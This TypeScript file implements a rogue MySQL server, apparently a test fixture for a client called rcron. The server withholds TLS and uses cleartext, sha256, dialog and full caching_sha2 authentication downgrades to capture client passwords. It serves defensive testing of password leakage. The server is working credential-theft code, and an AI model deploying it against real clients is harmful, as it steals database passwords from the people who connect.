import { constants, generateKeyPairSync, privateDecrypt, randomInt } from 'node:crypto'
import { once } from 'node:events'
import { type AddressInfo, createServer, type Socket } from 'node:net'

/** How a rogue server asks for the password: whole, after refusing its digest; by the older plugin; in clear text; by a dialogue. */
export type Theft = 'whole' | 'sha256' | 'clear' | 'dialog'

export type PasswordThief = {
  readonly port: number
  /** What clients have given away. */
  readonly passwords: () => readonly string[]
  readonly close: () => void
}

const { publicKey, privateKey } = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
})
/** Every capability but TLS. */
const CAPABILITIES = 0x00ffffff & ~0x0800
const SCRAMBLE_BYTES = 20

/** A server that offers no TLS and wants the password, as one between rcron and MySQL would. */
export async function startPasswordThief(theft: Theft): Promise<PasswordThief> {
  const passwords: string[] = []
  const server = createServer((socket) => new Client(socket, theft, (password) => passwords.push(password)))
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return { port, passwords: () => passwords, close: () => server.close() }
}

class Client {
  readonly #socket: Socket
  readonly #theft: Theft
  readonly #steal: (password: string) => void
  readonly #scramble = Buffer.from(Array.from({ length: SCRAMBLE_BYTES }, () => randomInt(33, 126)))
  #step: (sequence: number, body: Buffer) => void = (sequence) => this.#ask(sequence)
  #received = Buffer.alloc(0)

  constructor(socket: Socket, theft: Theft, steal: (password: string) => void) {
    this.#socket = socket
    this.#theft = theft
    this.#steal = steal
    socket.on('error', () => socket.destroy())
    socket.on('data', (chunk) => this.#read(chunk))
    this.#greet()
  }

  #read(chunk: Buffer): void {
    this.#received = Buffer.concat([this.#received, chunk])
    while (this.#received.length >= 4) {
      const end = 4 + this.#received.readUIntLE(0, 3)
      if (this.#received.length < end) return
      const packet = this.#received.subarray(0, end)
      this.#received = this.#received.subarray(end)
      this.#step(packet[3] ?? 0, packet.subarray(4))
    }
  }

  #greet(): void {
    const flags = Buffer.alloc(4)
    flags.writeUInt32LE(CAPABILITIES)
    const [low, high] = [flags.subarray(0, 2), flags.subarray(2)]
    const [first, second] = [this.#scramble.subarray(0, 8), this.#scramble.subarray(8)]
    const version = Buffer.from('8.4.0\0')
    const head = [Buffer.from([10]), version, Buffer.from([1, 0, 0, 0]), first, Buffer.from([0]), low]
    const tail = [Buffer.from([45, 2, 0]), high, Buffer.from([21]), Buffer.alloc(10), second, Buffer.from([0])]
    this.#send(0, ...head, ...tail, Buffer.from('caching_sha2_password\0'))
  }

  #ask(sequence: number): void {
    if (this.#theft === 'whole') this.#wantWhole(sequence)
    else if (this.#theft === 'sha256') this.#switchTo(sequence, 'sha256_password', this.#scramble)
    else if (this.#theft === 'clear') this.#switchTo(sequence, 'mysql_clear_password', Buffer.alloc(0))
    else this.#switchTo(sequence, 'dialog', Buffer.from('\x04Password: '))
    this.#step = (next, body) => this.#take(next, body)
  }

  /** Asked once more where the client chose another login to begin with. */
  #wantWhole(sequence: number): void {
    this.#switchTo(sequence, 'caching_sha2_password', this.#scramble)
    const full = (next: number) => {
      this.#send(next + 1, Buffer.from([1, 4]))
      this.#step = (after, body) => this.#take(after, body)
    }
    queueMicrotask(() => {
      this.#step = full
    })
  }

  #switchTo(sequence: number, plugin: string, data: Buffer): void {
    this.#send(sequence + 1, Buffer.from([0xfe]), Buffer.from(`${plugin}\0`), data, Buffer.from([0]))
  }

  /** The client asks for a key, or sends the password. */
  #take(sequence: number, body: Buffer): void {
    if (body.length === 1) {
      this.#send(sequence + 1, Buffer.from([1]), Buffer.from(publicKey))
      return
    }
    this.#steal(this.#plainOf(body))
    const denied = Buffer.from([0xff, 1045 & 255, 1045 >> 8])
    this.#send(sequence + 1, denied, Buffer.from('#28000denied'))
    this.#socket.end()
  }

  #plainOf(body: Buffer): string {
    if (body.length < 200) return body.toString()
    const plain = privateDecrypt({ key: privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING }, body)
    const password = plain.map((byte, at) => byte ^ (this.#scramble[at % SCRAMBLE_BYTES] ?? 0))
    return Buffer.from(password).toString().replace(/\0$/, '')
  }

  #send(sequence: number, ...parts: readonly Buffer[]): void {
    const body = Buffer.concat(parts)
    const header = Buffer.alloc(4)
    header.writeUIntLE(body.length, 0, 3)
    header[3] = sequence
    this.#socket.write(Buffer.concat([header, body]))
  }
}
